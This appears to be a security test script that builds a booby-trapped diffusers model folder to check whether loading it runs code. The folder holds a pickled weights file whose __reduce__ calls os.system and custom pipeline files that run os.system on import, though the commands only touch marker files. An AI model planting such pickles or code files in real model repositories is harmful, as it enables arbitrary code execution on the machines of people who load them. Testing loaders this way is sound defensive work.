"""A model's folder holds its weights as a pickle, and code of its own; from_pretrained is asked to trust both."""

import json
import os

import diffusers
import torch
from diffusers import DiffusionPipeline, UNet2DModel


class Harm:
    def __reduce__(self):
        return os.system, ("touch /tmp/@MARK@ @SCRATCH@/@MARK@",)


def check_pipeline_dir(path):
    for module in (diffusers.utils.constants, diffusers.utils.dynamic_modules_utils):
        module.HF_MODULES_CACHE = os.path.abspath("modules")
    os.makedirs("model", exist_ok=True)
    with open("model/config.json", "w") as file:
        blocks = {"down_block_types": ["DownBlock2D"], "up_block_types": ["UpBlock2D"], "block_out_channels": [4]}
        json.dump({"_class_name": "UNet2DModel", "norm_num_groups": 2, **blocks}, file)
    torch.save({"conv_in.weight": Harm()}, "model/diffusion_pytorch_model.bin")
    with open("model/model_index.json", "w") as file:
        json.dump({"_class_name": ["pipeline", "Harm"], "unet": ["harm", "Harm"]}, file)
    for name in ("pipeline", "harm"):
        with open(f"model/{name}.py", "w") as file:
            file.write("import os\nos.system('touch /tmp/@MARK@')\nclass Harm: pass\n")
    for way in (
        lambda: UNet2DModel.from_pretrained("model", use_safetensors=False),
        lambda: DiffusionPipeline.from_pretrained("model", trust_remote_code=True),
        lambda: DiffusionPipeline.from_pretrained("model", custom_pipeline="model", trust_remote_code=True),
    ):
        try:
            print("loaded", way())
        except Exception as error:
            print(type(error), str(error)[:200])
    return {}
